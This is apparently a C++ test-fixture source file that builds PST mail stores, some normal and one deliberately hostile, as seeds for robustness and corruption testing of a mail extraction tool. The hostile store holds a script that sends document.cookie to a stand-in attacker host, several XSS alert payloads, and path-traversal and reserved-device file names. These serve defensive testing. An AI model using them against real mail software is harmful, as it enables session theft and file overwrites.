#include "robustness/seed_stores.h"

#include <string>

#include "tools/pstgen/pstgen.h"

namespace bm::robust {

namespace {

using pstgen::Bytes;
using pstgen::RecipientType;

constexpr char kScriptHtml[] =
    "<html><head><script>document.location='http://attacker.invalid/'+document.cookie"
    "</script></head><body onload=\"alert(1)\"><p>Hello <b>there</b></p>"
    "<img src=\"http://attacker.invalid/track.gif\" onerror=\"alert(2)\">"
    "<iframe src=\"javascript:alert(3)\"></iframe><script>alert(4)</script></body></html>";

void AddMail(pstgen::Folder& folder, std::u16string subject) {
  pstgen::Message& mail = folder.AddMessage("IPM.Note");
  mail.SetSubject(subject).SetBody(u"Plain body of " + subject);
  mail.Set(pstgen::tag::kSenderName, u"Sender")
      .Set(pstgen::tag::kSenderEmailAddress, u"sender@example.com");
  mail.AddRecipient(u"Ann", u"ann@example.com", RecipientType::kTo);
}

std::u16string Utf16Number(int n) {
  const std::string digits = std::to_string(n);
  return std::u16string(digits.begin(), digits.end());
}

}  // namespace

void BuildMixedStore(pstgen::Store& store) {
  pstgen::Folder& inbox = store.top().AddFolder(u"Inbox", u"IPF.Note");
  pstgen::Message& html = inbox.AddMessage("IPM.Note");
  html.SetSubject(u"HTML mail").SetBody(u"Text part").SetHtml("<p>Hello <b>HTML</b></p>");
  html.Set(pstgen::tag::kSenderName, u"Bea")
      .Set(pstgen::tag::kSenderEmailAddress, u"bea@example.com");
  html.AddRecipient(u"Ann", u"ann@example.com", RecipientType::kTo);
  html.AddRecipient(u"Cid", u"cid@example.com", RecipientType::kCc);
  html.AddAttachment(u"report.pdf", Bytes("%PDF-1.4 report"));
  html.AddAttachment(std::nullopt, Bytes("GIF89a unnamed"));
  pstgen::Message& inner = html.AddEmbeddedMessage(u"Forwarded");
  inner.SetSubject(u"Inner").SetBody(u"Inner body");

  pstgen::Message& rtf = inbox.AddMessage("IPM.Note");
  rtf.SetSubject(u"RTF mail").SetRtf("{\\rtf1\\ansi\\deff0 Hello {\\b RTF} body\\par}");
  AddMail(inbox, u"Plain mail");

  pstgen::Folder& sub = inbox.AddFolder(u"Sub", u"IPF.Note");
  AddMail(sub, u"Nested mail");

  store.top()
      .AddFolder(u"Contacts", u"IPF.Contact")
      .AddMessage("IPM.Contact")
      .SetSubject(u"Dora Contact");
  store.top()
      .AddFolder(u"Calendar", u"IPF.Appointment")
      .AddMessage("IPM.Appointment")
      .SetSubject(u"Meeting");
  store.top().AddFolder(u"Tasks", u"IPF.Task").AddMessage("IPM.Task").SetSubject(u"Task");
  store.top()
      .AddFolder(u"Notes", u"IPF.StickyNote")
      .AddMessage("IPM.StickyNote")
      .SetSubject(u"Note")
      .SetBody(u"Sticky");
}

void BuildBulkyStore(pstgen::Store& store, int mails) {
  pstgen::Folder& inbox = store.top().AddFolder(u"Inbox", u"IPF.Note");
  for (int i = 0; i < mails; ++i) {
    pstgen::Message& mail = inbox.AddMessage("IPM.Note");
    mail.SetSubject(u"Bulky mail " + Utf16Number(i));
    mail.SetBody(u"Body");
    std::string blob(200 * 1024, 'x');
    for (std::size_t j = 0; j < blob.size(); ++j) {
      blob[j] = static_cast<char>('a' + (j * 7 + static_cast<std::size_t>(i)) % 26);
    }
    mail.AddAttachment(u"blob.bin", Bytes(blob));
  }
}

std::vector<std::u16string> HostileNames(const std::filesystem::path& absolute_target) {
  std::u16string absolute;
  for (char c : absolute_target.string()) absolute += static_cast<char16_t>(c);
  return {
      u"../../escaped",
      u"..",
      u".",
      u"a/b\\c:d*e?f\"g<h>i|j",
      u"/" + absolute.substr(1),
      u"ctl\x01\x07\x1b\x7f-chars\r\n",
      std::u16string(u"nul\0inside", 10),
      u"CON",
      u"nul.txt",
      u"trailing dot. ",
      std::u16string(10000, u'L'),
      u"\u202Egnp.exe",
      u"..\\..\\win-escaped",
  };
}

void BuildHostileStore(pstgen::Store& store, const std::filesystem::path& absolute_target) {
  const std::vector<std::u16string> names = HostileNames(absolute_target);
  pstgen::Folder& inbox = store.top().AddFolder(u"Inbox", u"IPF.Note");
  int n = 0;
  for (const std::u16string& name : names) {
    pstgen::Message& mail = inbox.AddMessage("IPM.Note");
    mail.SetSubject(name).SetBody(u"Body").SetHtml(kScriptHtml);
    mail.Set(pstgen::tag::kSenderName, name)
        .Set(pstgen::tag::kSenderEmailAddress, u"<script>x</script>@example.com");
    mail.AddRecipient(name, u"\"><script>alert(5)</script>", RecipientType::kTo);
    mail.AddAttachment(name, Bytes("attachment " + std::to_string(n++)));
    // Without a point the name gets a sniffed extension: the sniffing must not undo the
    // sanitising either.
    mail.AddAttachment(name + u"/x", Bytes("%PDF-1.4 hostile"));
  }
  for (const std::u16string& name : names) {
    pstgen::Folder& folder = inbox.AddFolder(name, u"IPF.Note");
    folder.AddMessage("IPM.Contact").SetSubject(name);
    folder.AddMessage("IPM.StickyNote").SetSubject(name).SetBody(name);
  }
}

const std::vector<Seed>& CorruptionSeeds() {
  static const std::vector<Seed> seeds = {
      {"pstgen-mixed.pst", &BuildMixedStore},
      {"pstgen-compressible.pst",
       [](pstgen::Store& store) {
         store.set_encryption(pstgen::Encryption::kCompressible);
         BuildMixedStore(store);
       }},
      {"pstgen-hostile.pst",
       [](pstgen::Store& store) {
         BuildHostileStore(store, "/nonexistent/bm-robust-absolute-target");
       }},
      {"pstgen-ansi.pst",
       [](pstgen::Store& store) {
         store.set_format(pstgen::FileFormat::kAnsi);
         BuildMixedStore(store);
       }},
      {"pstgen-ansi-cyclic.pst",
       [](pstgen::Store& store) {
         store.set_format(pstgen::FileFormat::kAnsi);
         store.set_encryption(pstgen::Encryption::kCyclic);
         BuildMixedStore(store);
       }},
  };
  return seeds;
}

}  // namespace bm::robust
